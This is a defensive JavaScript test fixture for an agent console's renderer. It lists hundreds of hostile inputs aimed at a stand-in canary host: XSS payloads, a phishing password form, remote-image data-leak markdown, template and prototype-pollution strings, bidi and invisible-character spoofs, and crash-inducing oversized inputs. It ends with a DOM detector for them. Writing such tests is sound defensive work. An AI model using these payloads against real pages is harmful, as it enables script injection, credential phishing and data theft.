// Hostile content: what an agent, a tool or a guest might write to make the console
// run something, load something, lead somebody astray, or fall over. All of it is
// data. hostile.test.tsx draws it with every renderer; the tests in a real browser
// post it through a real server. The words and addresses it tries to reach are
// `canary`: no request may ever go there, and no dialog may open. It is plain
// JavaScript, which Vitest and node read as it is; its types are in hostile.d.mts.

/** Where the payloads try to go. */
export const canary = "https://canary.example";

const run = "alert(1)";
const html = `<script>${run}</script>`;

// Addresses that must never be a link or a source, whatever form they come in.
const addresses = [
  ["javascript", `javascript:${run}`],
  ["mixed case", `JaVaScRiPt:${run}`],
  ["tab inside", `java\tscript:${run}`],
  ["entity tab inside", `java&Tab;script:${run}`],
  ["newline entity inside", `java&NewLine;script:${run}`],
  ["entity first letter", `&#106;avascript:${run}`],
  ["entity colon", `javascript&colon;${run}`],
  ["long entity", `&#x00000006Aavascript:${run}`],
  ["control before", `\u0001javascript:${run}`],
  ["percent-encoded colon", `javascript%3A${run}`],
  ["comment trick", `javascript://canary.example/%0a${run}`],
  ["data html", `data:text/html,${html}`],
  ["data html base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="],
  ["data svg", `data:image/svg+xml,<svg onload=${run}>`],
  ["vbscript", `vbscript:msgbox(1)`],
  ["file", "file:///etc/passwd"],
  ["blob", "blob:https://canary.example/1"],
  ["view-source", "view-source:https://canary.example"],
  ["protocol-relative", "//canary.example/x"],
  ["backslashes", "\\\\canary.example\\x"],
  ["own path out of files", "/v1/sessions/a/files/../../../console/logout"],
  ["own path with query", "/v1/sessions/a/files/b?x=1"],
  ["fragment", "#login=stolen"],
];

const forms = [
  ["link", (u) => `[press me](${u})`],
  ["link in angles", (u) => `[press me](<${u}>)`],
  ["reference link", (u) => `[press me][evil]\n\n[evil]: ${u}`],
  ["reference link in angles", (u) => `[evil]\n\n[evil]: <${u}> "title"`],
  ["autolink", (u) => `<${u}>`],
  ["picture", (u) => `![alt](${u})`],
  ["picture in a link", (u) => `[![alt](${u})](${u})`],
  ["reference picture", (u) => `![alt][pic]\n\n[pic]: ${u}`],
];

const links = addresses.flatMap(([what, url]) => forms.map(([form, write]) => ({ name: `${form}: ${what}`, text: write(url) })));

const rawHtml = [
  ["script", html],
  ["script in capitals", `<SCRIPT SRC=${canary}/x.js></SCRIPT>`],
  ["script with a slash", `<script/x>${run}</script>`],
  ["script not closed", `<script>${run}`],
  ["script split", `<scr<script>ipt>${run}</scr</script>ipt>`],
  ["null in script", `<scr\u0000ipt>${run}</scr\u0000ipt>`],
  ["img onerror", `<img src=x onerror=${run}>`],
  ["img onerror with slashes", `<img/src/onerror=${run}>`],
  ["img remote", `<img src="${canary}/pixel.gif">`],
  ["img srcset", `<img srcset="${canary}/a.png 2x">`],
  ["img lazy", `<img loading=lazy src="${canary}/b.png">`],
  ["picture source", `<picture><source srcset="${canary}/c.png"><img></picture>`],
  ["svg onload", `<svg onload=${run}>`],
  ["svg script", `<svg><script>${run}</script></svg>`],
  ["svg animate", `<svg><a><animate attributeName=href values=javascript:${run} /><text x=20 y=20>x</text></a></svg>`],
  ["svg set", `<svg><set attributeName=onmouseover to=${run}></svg>`],
  ["svg use", `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`],
  ["svg foreignObject", `<svg><foreignObject><iframe src=javascript:${run}></iframe></foreignObject></svg>`],
  ["svg image", `<svg><image href="${canary}/d.png"/></svg>`],
  ["math link", `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${run}">x</maction></math>`],
  ["mXSS math", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`],
  ["mXSS noscript", `<noscript><p title="</noscript><img src=x onerror=${run}>">`],
  ["mXSS style", `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`],
  ["mXSS form", `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`],
  ["mXSS template", `<template><img src=x onerror=${run}></template>`],
  ["mXSS select", `<select><template><svg><style></template><img src onerror=${run}>`],
  ["iframe", `<iframe src="${canary}"></iframe>`],
  ["iframe srcdoc", `<iframe srcdoc="<script>${run}</script>"></iframe>`],
  ["iframe javascript", `<iframe src=javascript:${run}></iframe>`],
  ["frame name", `<iframe name="alert(1)" src="/v1/me"></iframe>`],
  ["object", `<object data="data:text/html,${html}"></object>`],
  ["embed", `<embed src="${canary}/x.swf">`],
  ["applet", `<applet code="X" codebase="${canary}"></applet>`],
  ["portal", `<portal src="${canary}"></portal>`],
  ["base", `<base href="${canary}/">`],
  ["meta refresh", `<meta http-equiv=refresh content="0;url=${canary}">`],
  ["meta csp", `<meta http-equiv="Content-Security-Policy" content="default-src *">`],
  ["link stylesheet", `<link rel=stylesheet href="${canary}/x.css">`],
  ["link prefetch", `<link rel=prefetch href="${canary}/p">`],
  ["link dns-prefetch", `<link rel=dns-prefetch href="//canary.example">`],
  ["style", `<style>body{display:none;background:url(${canary}/s.png)}</style>`],
  ["style import", `<style>@import url(${canary}/i.css);</style>`],
  ["style attribute", `<div style="position:fixed;inset:0;background:url(${canary}/t.png)">x</div>`],
  ["style expression", `<div style="width:expression(${run})">x</div>`],
  ["form", `<form action="${canary}"><input name=password><button>Sign in</button></form>`],
  ["formaction", `<button formaction="javascript:${run}">x</button>`],
  ["input autofocus", `<input autofocus onfocus=${run}>`],
  ["details ontoggle", `<details open ontoggle=${run}>x</details>`],
  ["video", `<video src="${canary}/v.mp4" poster="${canary}/v.png" autoplay onerror=${run}></video>`],
  ["audio", `<audio src=x onerror=${run}>`],
  ["body onload", `<body onload=${run}>`],
  ["marquee", `<marquee onstart=${run}>x</marquee>`],
  ["isindex", `<isindex type=image src=1 onerror=${run}>`],
  ["anchor ping", `<a href="https://ok.example" ping="${canary}">x</a>`],
  ["anchor javascript", `<a href="javascript:${run}">x</a>`],
  ["anchor without quotes", `<a href=javascript:${run}>x`],
  ["anchor target", `<a href="https://ok.example" target=_top>x</a>`],
  ["area", `<map name=m><area href="javascript:${run}" shape=default></map>`],
  ["clobber", `<img name=getElementById><form id=root><input name=parentNode></form><a id=location href="${canary}">x</a>`],
  ["comment", `<!--><img src=x onerror=${run}>-->`],
  ["conditional comment", `<!--[if gte IE 4]>${html}<![endif]-->`],
  ["CDATA", `<![CDATA[<img src=x onerror=${run}>]]>`],
  ["doctype", `<!DOCTYPE html><html onclick=${run}>`],
  ["processing instruction", `<?xml-stylesheet href="javascript:${run}"?>`],
  ["XML namespace", `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`],
  ["custom element", `<x-shoal onclick=${run} style=animation-name:x onanimationend=${run}></x-shoal>`],
  ["slot", `<div><template shadowrootmode=open><script>${run}</script></template></div>`],
  ["quote breakout", `"><img src=x onerror=${run}>`],
  ["attribute breakout", `' onmouseover='${run}' x='`],
  ["textarea breakout", `</textarea><script>${run}</script>`],
  ["title breakout", `</title><script>${run}</script>`],
  ["script breakout", `</script><script>${run}</script>`],
  ["inside a list", `- <img src=x onerror=${run}>\n- two`],
  ["inside a quote", `> <iframe src=javascript:${run}>`],
  ["inside a table", `| <img src=x onerror=${run}> | b |\n| --- | --- |\n| <script>${run}</script> | c |`],
  ["inside a heading", `# <svg/onload=${run}>`],
  ["in a footnote", `x[^1]\n\n[^1]: <img src=x onerror=${run}>`],
  ["in emphasis", `*<img src=x onerror=${run}>*`],
  ["in the alt text", `![<img src=x onerror=${run}>](${canary}/e.png)`],
  ["in a link's title", `[x](https://ok.example "\\" onmouseover=${run} \\"")`],
  ["in a link's words", `[<img src=x onerror=${run}>](https://ok.example)`],
  ["in inline code", `\`<img src=x onerror=${run}>\``],
];

const templates = [
  ["entities", "&lt;script&gt;alert(1)&lt;/script&gt;"],
  ["double entities", "&amp;lt;img src=x onerror=alert(1)&amp;gt;"],
  ["entity numbers", "&#60;script&#62;alert(1)&#60;/script&#62;"],
  ["entity without end", "&#x3Cscript&#x3Ealert(1)"],
  ["unicode escapes", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"],
  ["full-width", "＜script＞alert(1)＜/script＞"],
  ["UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"],
  ["mustache", "{{constructor.constructor('alert(1)')()}}"],
  ["dollar template", "${alert(1)}"],
  ["ejs", "<%= alert(1) %>"],
  ["vue", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"],
  ["angular", "<div ng-app>{{$on.constructor('alert(1)')()}}</div>"],
  ["dangerous prop", "{dangerouslySetInnerHTML: {__html: '<img src=x onerror=alert(1)>'}}"],
  ["css url", `url(${canary}/u.png)`],
  ["css in a word", `background:url("${canary}/w.png")`],
  ["katex", "$\\href{javascript:alert(1)}{x}$"],
  ["mermaid", "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]; click A \"javascript:alert(1)\"\n```"],
  ["code language", "```js onload=alert(1) class=\"hostile\"\nx\n```"],
  ["code language with HTML", "```\"><img src=x onerror=alert(1)>\nx\n```"],
  ["code language __proto__", "```__proto__\nx\n```"],
  ["code language constructor", "```constructor\nx\n```"],
  ["definition __proto__", `[__proto__]\n\n[__proto__]: javascript:alert(1)`],
  ["definition constructor", "[constructor][toString]"],
  ["front matter", "---\nlayout: <script>alert(1)</script>\n---\n"],
  ["remote picture", `![data](${canary}/leak?q=secret)`],
  ["remote picture by reference", `![data][p]\n\n[p]: ${canary}/leak`],
  ["picture of allowed look", `![x](https://shoal.canary.example/v1/sessions/a/files/b)`],
  ["host like ours", "[settings](https://localhost.canary.example/settings)"],
  ["words of another host", "[https://bank.example](https://canary.example/login)"],
  ["user before the host", "[bank](https://bank.example@canary.example/)"],
  ["bare user before the host", "https://bank.example:pass@canary.example/"],
  ["punycode", "https://xn--80ak6aa92e.example/"],
  ["cyrillic host", "https://аррle.example/"],
  ["mailto with headers", "[mail](mailto:a@b.example?bcc=canary@canary.example&body=x)"],
];

const unseen = [
  ["bidi override", "pay \u202e0001\u202c euros"],
  ["bidi isolate", "\u2067abc\u2069 def"],
  ["trojan source", "if (admin\u202e \u2066// not an admin\u2069 \u2066) {"],
  ["file name turned around", "invoice\u202efdp.exe"],
  ["zero-width space", "ad\u200bmin"],
  ["zero-width joiner between letters", "ad\u200dmin"],
  ["word joiner", "ad\u2060min"],
  ["BOM", "\ufeffadmin"],
  ["soft hyphen", "ad\u00admin"],
  ["tag block", "hello \u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065} \u{e0061}\u{e006c}\u{e006c}"],
  ["variation selectors", `x${"\u{e0101}\u{e0142}\u{e0163}".repeat(20)}`],
  ["Hangul filler", "\u3164\u3164admin"],
  ["control characters", "a\u0000b\u0007c\u001b[31mred\u001b[0m\u0008\u007f"],
  ["C1 controls", "a\u009b31mb\u0085c"],
  ["line separators", "a\u2028b\u2029c"],
  ["interlinear", "a\ufff9b\ufffac\ufffb"],
  ["link words turned around", "[\u202emoc.elpmaxe.knab\u202c](https://canary.example)"],
  ["invisible link words", "[\u200b](https://canary.example)"],
  ["lone surrogate", "a\ud800b\udc00c"],
];

const big = (name, text) => ({ name, text });
const heavy = [
  big("nested quotes", ">".repeat(5000) + " x"),
  big("nested lists", "- ".repeat(3000) + "x"),
  big("nested list lines", Array.from({ length: 300 }, (_, i) => `${" ".repeat(2 * i)}- x`).join("\n")),
  big("nested emphasis", "*a **b ".repeat(2000)),
  big("open brackets", "[".repeat(20000)),
  big("open pictures", "![".repeat(10000)),
  big("bracket pairs", "[a](".repeat(5000)),
  big("backticks", Array.from({ length: 400 }, (_, i) => "`".repeat(i + 1)).join(" ")),
  big("tildes and stars", "~*".repeat(8000)),
  big("open tags", "<a ".repeat(10000)),
  big("open comments", "<!-- ".repeat(10000)),
  big("entities", "&lt;".repeat(10000)),
  big("many definitions", Array.from({ length: 2000 }, (_, i) => `[a${i}]: https://ok.example/${i}`).join("\n") + "\n\n[a1] [a2]"),
  big("wide table", `|${" a |".repeat(500)}\n|${" --- |".repeat(500)}\n|${" b |".repeat(500)}`),
  big("one long word", "x".repeat(200_000)),
  big("one long line", "word ".repeat(40_000)),
  big("many blocks", "a\n\n".repeat(2000)),
  big("zalgo", `Z${"\u0301\u0302\u0303\u0304".repeat(400)}`),
];

const named = (all) => all.map(([name, text]) => ({ name, text }));

/** Every hostile text. */
export const texts = [...links, ...named(rawHtml), ...named(templates), ...named(unseen), ...heavy];

/** Those that are short enough to be a name, a key, an option. */
export const words = [...addresses.map(([name, text]) => ({ name: `address: ${name}`, text })), ...named(rawHtml), ...named(templates), ...named(unseen)];

// JSON.parse makes `__proto__` an own member, as a server's answer would.
const json = (text) => JSON.parse(text);

function nested(depth, list) {
  let v = "x";
  for (let i = 0; i < depth; i++) v = list ? [v] : { a: v };
  return v;
}

/** Hostile values for arguments, results and data. */
export const values = [
  { name: "__proto__", value: json('{"__proto__":{"polluted":true},"a":1}') },
  { name: "__proto__ flat", value: json('{"__proto__":"polluted","name":"x"}') },
  { name: "constructor", value: json('{"constructor":{"prototype":{"polluted":true}}}') },
  { name: "toString", value: { toString: "x", valueOf: "y", hasOwnProperty: "z", then: "t" } },
  { name: "rows with __proto__", value: json('[{"__proto__":"a","b":1},{"b":2}]') },
  { name: "React element", value: { $$typeof: "Symbol(react.element)", type: "script", props: { children: "alert(1)" }, key: null, ref: null } },
  { name: "React element as title", value: { title: "x", $$typeof: "Symbol(react.transitional.element)", type: "img", props: { src: "x", onError: "alert(1)" } } },
  { name: "deep lists", value: nested(2000, true) },
  { name: "deep objects", value: nested(2000, false) },
  { name: "wide object", value: Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`k${i}`, i])) },
  { name: "wide list", value: Array.from({ length: 20_000 }, (_, i) => i) },
  { name: "many rows", value: Array.from({ length: 5000 }, (_, i) => ({ i, text: html })) },
  { name: "huge text", value: { name: "x".repeat(200_000), about: "y".repeat(200_000) } },
  { name: "huge key", value: { ["k".repeat(100_000)]: 1, other: { a: [1] } } },
  { name: "numbers at the edge", value: { a: 1e308, b: -1e308, c: 5e-324, d: 9007199254740993 } },
  { name: "image javascript", value: { url: `javascript:${run}`, alt: "x" } },
  { name: "image svg data", value: { data: "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", mimeType: "image/svg+xml" } },
  { name: "image type breakout", value: { data: "AAAA", mimeType: 'image/png" onerror="alert(1)' } },
  { name: "image data breakout", value: { data: 'AAAA" onerror="alert(1)', mimeType: "image/png" } },
  { name: "image remote", value: { url: `${canary}/f.png`, alt: html } },
  { name: "MCP image remote", value: { content: [{ type: "image", data: `${canary}/g.png`, mimeType: "image/png" }] } },
  { name: "MCP text html", value: { content: [{ type: "text", text: html }] } },
  { name: "MCP resource html", value: { content: [{ type: "resource", resource: { uri: `javascript:${run}`, mimeType: "text/html", text: html } }] } },
  { name: "MCP resource link", value: { content: [{ type: "resource_link", uri: `javascript:${run}`, name: html }] } },
  { name: "MCP app", value: { content: [{ type: "resource", resource: { uri: "ui://x", mimeType: "text/html;profile=mcp-app", text: html } }] } },
  { name: "MCP many", value: { content: Array.from({ length: 1000 }, () => ({ type: "text", text: "x" })) } },
  { name: "chart of nothing", value: { type: "bar", x: "a", y: ["b"], data: [] } },
  { name: "chart of infinities", value: { type: "line", x: "a", y: ["b"], data: [{ a: 1, b: 1e308 }, { a: 2, b: -1e308 }] } },
  { name: "chart of texts", value: { type: "pie", x: "a", y: ["b"], data: [{ a: html, b: html }, { a: html, b: 1 }] } },
  { name: "chart __proto__", value: json('{"type":"bar","x":"__proto__","y":["constructor","b"],"series":"__proto__","data":[{"__proto__":"a","b":1}]}') },
  { name: "chart of too many", value: { type: "area", x: "i", y: ["v"], data: Array.from({ length: 20_000 }, (_, i) => ({ i, v: i })) } },
  { name: "chart of many series", value: { type: "bar", x: "i", y: Array.from({ length: 500 }, (_, i) => `s${i}`), data: [{ i: 1, s0: 1 }] } },
  { name: "chart labels", value: { type: "bar", title: html, unit: html, x: "a", y: [html], data: [{ a: html, [html]: 3 }] } },
  { name: "diff", value: { path: html, before: html, after: `${html}\n<img src=x onerror=${run}>` } },
  { name: "patch", value: { diff: `--- ${html}\n+++ ${html}\n+<img src=x onerror=${run}>` } },
  { name: "hint of nothing", value: { "x-shoal": { render: "__proto__" }, a: 1 } },
  { name: "hint that does not fit", value: { "x-shoal": { render: "chart" }, a: 1 } },
  { name: "money", value: { price: 1, currency: "<b>" } },
  { name: "money of another kind", value: { total: { amount: 1, currency: "ZZZ" } } },
  { name: "invalid date", value: { at: "2026-99-99T99:99:99Z" } },
  { name: "file javascript", value: { name: html, url: `javascript:${run}`, mediaType: "text/html", size: -1 } },
];

/** Hostile JSON Schemas of results. */
export const schemas = [
  { name: "reference to itself", value: { $ref: "#" } },
  { name: "references in a ring", value: { $defs: { a: { $ref: "#/$defs/b" }, b: { $ref: "#/$defs/a" } }, $ref: "#/$defs/a" } },
  { name: "recursive object", value: { $defs: { n: { type: "object", properties: { next: { $ref: "#/$defs/n" }, more: { $ref: "#/$defs/n" } } } }, $ref: "#/$defs/n" } },
  { name: "remote reference", value: { $ref: `${canary}/schema.json` } },
  { name: "reference to __proto__", value: { $ref: "#/__proto__/constructor" } },
  { name: "__proto__ property", value: json('{"type":"object","required":["__proto__"],"properties":{"__proto__":{"type":"boolean"}}}') },
  { name: "texts of HTML", value: { type: "object", title: html, description: html, properties: { [html]: { type: "string", title: html, description: html, default: html, pattern: html }, b: { enum: [html, "x"] } } } },
  { name: "catastrophic pattern", value: { type: "object", properties: { a: { type: "string", pattern: "^(a+)+$" } }, required: ["a"] } },
  { name: "huge enum", value: { enum: Array.from({ length: 5000 }, (_, i) => `v${i}`) } },
  { name: "wide object", value: { type: "object", properties: Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`p${i}`, { type: "string" }])) } },
  { name: "not an object", value: [true, 1, "x"] },
  { name: "false", value: false },
];

const tool = (some) => ({
  id: "prt_h", type: "tool_call", toolName: "tool", toolCallId: "call-h", args: {}, result: null, error: null, status: "done", display: null, answeredBy: null, targetEntityId: null, ...some,
});

/** A text in every place of a part in which somebody else's words stand. */
export function everywhere(text) {
  const file = { id: "prt_f", type: "file", name: text, mediaType: text, size: 1, url: "https://ok.example/x" };
  return [
    { id: "prt_t", type: "text", text, status: "done" },
    { id: "prt_s", type: "text", text, status: "streaming" },
    file,
    { ...file, url: text },
    { ...file, mediaType: "image/png", url: text },
    { id: "prt_d", type: "data", name: text, data: text },
    { id: "prt_j", type: "data", name: "json", data: { [text]: [text, { [text]: text }] } },
    tool({ toolName: text, args: { [text]: text }, display: { customUI: text } }),
    tool({ status: "error", error: text, args: { name: text, price: 1, currency: text } }),
    tool({ status: "input_streaming", args: { title: text, description: text } }),
    tool({ result: { content: [{ type: "text", text }, { type: "resource_link", name: text, uri: text }] }, answeredBy: text, display: { mode: "full" } }),
    tool({ args: [{ [text]: text, n: 1 }, { [text]: 2, n: text }], display: { render: "table" } }),
    tool({ args: { type: "bar", title: text, unit: text, x: "k", y: [text], data: [{ k: text, [text]: 2 }] }, display: { render: "chart" } }),
    tool({ args: { code: text, language: text }, display: { render: "code" } }),
    tool({ args: { path: text, before: "a", after: text }, display: { render: "diff" } }),
    tool({ args: { url: text, alt: text }, display: { render: "image" } }),
    tool({ args: { markdown: text }, display: { render: "markdown" } }),
  ];
}

/** A text in every place of what waits for somebody. */
export function asked(text) {
  const base = {
    id: "pnd_h", kind: "question", runId: "run_h", agentId: text, spaceId: "s", messageId: null, partId: null, toolCallId: "call-h", toolName: text, args: { [text]: text }, question: text,
    options: [text, "other"], resultSchema: null, status: "open", expiresAt: null, createdAt: "2026-11-20T10:00:00.000Z", answeredBy: null, answeredAt: null,
    by: [text], quorum: 1, notRequester: true, votes: [], eligible: 1, requesters: [text], argsHash: text, argsSchema: null, editedArgs: null, decision: null,
  };
  const schema = { type: "object", title: text, description: text, required: ["a"], properties: { a: { type: "string", title: text, description: text, default: text }, [text]: { enum: [text, "b"] }, list: { type: "array", items: { type: "string" }, title: text, default: [text] } } };
  return [
    base,
    { ...base, kind: "permission" },
    { ...base, kind: "client_tool", options: null, resultSchema: schema },
    { ...base, kind: "permission", options: null, quorum: 2, votes: [{ entityId: text, at: base.createdAt, approved: true, result: text, error: null, editedArgs: { [text]: text } }] },
    { ...base, kind: "client_tool", question: null, options: null, resultSchema: { enum: [text, "b"], title: text } },
    { ...base, status: "answered", answeredBy: text, answeredAt: "2026-11-20T10:00:00.000Z" },
  ];
}

/**
 * What is dangerous in a piece of a page, in words; nothing if it is safe. With
 * `around` the piece holds the console's own frame of parts as well: its ids and its
 * links to its own pages. It depends on nothing else, so that a test can run it
 * inside of a browser.
 */
export function dangers(root, around = false) {
  const found = [];
  const forbidden = /^(script|iframe|frame|frameset|object|embed|applet|portal|link|meta|base|style|form|template|noscript|math|video|audio|source|area|map|marquee|foreignobject|use|animate|set|image|slot|title-)$/;
  const file = /^\/v1\/sessions\/[A-Za-z0-9_.-]{1,64}\/files\/[A-Za-z0-9_.-]{1,64}$/;
  const address = (el, url) => {
    if (file.test(url) && !/\/\.{1,2}(\/|$)/.test(url)) return;
    if (/^(https?:\/\/|mailto:)/i.test(url) || (around && /^\/s\/[\w.-]+\/\w+/.test(url))) return;
    found.push(`${el.tagName} leads to ${url.slice(0, 80)}`);
  };
  for (const el of root.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    if (forbidden.test(tag)) found.push(`<${tag}>`);
    if (tag === "svg" && !(el.getAttribute("class") ?? "").includes("lucide") && el.getAttribute("role") !== "img") found.push("a foreign <svg>");
    for (const { name, value } of Array.from(el.attributes)) {
      if (/^on/i.test(name)) found.push(`${tag} ${name}`);
      if (["srcdoc", "srcset", "formaction", "xlink:href", "background", "ping", "action", "data", "poster", "name", "contenteditable"].includes(name)) found.push(`${tag} ${name}="${value.slice(0, 80)}"`);
      if (name === "href") address(el, value);
      if (name === "src" && !file.test(value) && !/^data:image\/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+={0,2}$/.test(value)) found.push(`${tag} loads ${value.slice(0, 80)}`);
      if (name === "style" && /url\(|expression|position|@import|behavior/i.test(value)) found.push(`${tag} style ${value.slice(0, 80)}`);
      if (name === "class" && /hostile/.test(value)) found.push(`${tag} class ${value}`);
      if (name === "id" && !/^[«_:]|^said-|^radix/.test(value) && !(around && /^msg_\w+(-who|-when)?$/.test(value))) found.push(`${tag} id ${value.slice(0, 80)}`);
    }
    if (tag === "a" && /^(https?:|mailto:)/i.test(el.getAttribute("href") ?? "") && !/noopener/.test(el.getAttribute("rel") ?? "")) found.push("a link without noopener");
  }
  if ("polluted" in {}) found.push("Object.prototype is polluted");
  return found;
}
